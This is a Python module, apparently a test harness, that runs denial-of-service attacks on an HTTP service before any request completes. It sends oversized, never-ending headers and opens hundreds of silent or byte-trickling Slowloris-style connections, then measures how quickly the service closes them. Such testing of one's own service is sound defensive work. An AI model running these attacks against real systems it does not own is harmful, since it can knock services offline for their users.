"""Attacks on connections, before any request: endless heads, and connections that say nothing."""

from __future__ import annotations

import selectors
import socket
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass

SMALL_HEADERS_BYTES = 22_000_000
LARGE_HEADER_BYTES = 50_000_000
SILENT, HALF_OPEN = 300, 20
_LINE = b"GET /livez HTTP/1.1\r\nHost: here\r\n"
_PIECE = 65_536
_TIMEOUT_SECONDS = 60.0
_TRICKLE_SECONDS = 1.0


@dataclass(frozen=True)
class Attacked:
    """What became of connections.

    Attributes
    ----------
    opened : int
        How many there were.
    closed : int
        How many of them the service has closed.
    longest : float
        Seconds for which it kept one open at most.
    """

    opened: int
    closed: int
    longest: float


def heads(host: str, port: int) -> Attacked:
    """Send 22 MB of small headers, then one header of 50 MB, as long as anybody takes them."""
    small = (b"X-%07d: %s\r\n" % (number, b"v" * 40) for number in range(10**7))
    return joined(
        [
            _send(host, port, small, SMALL_HEADERS_BYTES),
            _send(host, port, _pieces(b"X-Large: "), LARGE_HEADER_BYTES),
        ]
    )


def silence(host: str, port: int) -> Attacked:
    """Open 300 connections that say nothing, and 20 that send a head letter by letter."""
    begin = time.monotonic()
    waiting = selectors.DefaultSelector()
    slow = []
    for number in range(SILENT + HALF_OPEN):
        client = socket.create_connection((host, port), timeout=_TIMEOUT_SECONDS)
        if number >= SILENT:
            client.sendall(_LINE + b"X-Slow: ")
            slow.append(client)
        client.setblocking(False)
        waiting.register(client, selectors.EVENT_READ, time.monotonic())
    closed, longest = 0, 0.0
    while waiting.get_map() and time.monotonic() - begin < _TIMEOUT_SECONDS:
        for key, _ in waiting.select(_TRICKLE_SECONDS):
            if _is_closed(key.fileobj):
                waiting.unregister(key.fileobj)
                closed, longest = closed + 1, max(longest, time.monotonic() - key.data)
        for client in slow:
            with suppress(OSError):
                client.send(b"x")
    for key in list(waiting.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    waiting.close()
    return Attacked(SILENT + HALF_OPEN, closed, longest)


ATTACKS: dict[str, Callable[[str, int], Attacked]] = {"heads": heads, "silence": silence}


def repeat(name: str, host: str, port: int, seconds: float) -> Attacked:
    """Attack again and again for a time."""
    end = time.monotonic() + seconds
    found: list[Attacked] = []
    while not found or time.monotonic() < end:
        found.append(ATTACKS[name](host, port))
    return joined(found)


def _send(host: str, port: int, pieces: Iterator[bytes], many: int) -> Attacked:
    begin, sent, is_closed = time.monotonic(), 0, False
    with socket.create_connection((host, port), timeout=_TIMEOUT_SECONDS) as client:
        try:
            client.sendall(_LINE)
            while sent < many:
                sent += client.send(next(pieces))
            # Nothing ends the head: what is answered is a refusal.
            while client.recv(_PIECE):
                pass
            is_closed = True
        except TimeoutError:
            is_closed = False
        except OSError:
            is_closed = True
    return Attacked(1, int(is_closed), time.monotonic() - begin)


def _pieces(start: bytes) -> Iterator[bytes]:
    yield start
    while True:
        yield b"v" * _PIECE


def _is_closed(client: object) -> bool:
    assert isinstance(client, socket.socket)
    try:
        if client.recv(_PIECE):
            return False
    except BlockingIOError:
        return False
    except OSError:
        pass
    client.close()
    return True


def joined(found: Sequence[Attacked]) -> Attacked:
    """Return what became of the connections of several attacks."""
    return Attacked(
        sum(each.opened for each in found),
        sum(each.closed for each in found),
        max(each.longest for each in found),
    )
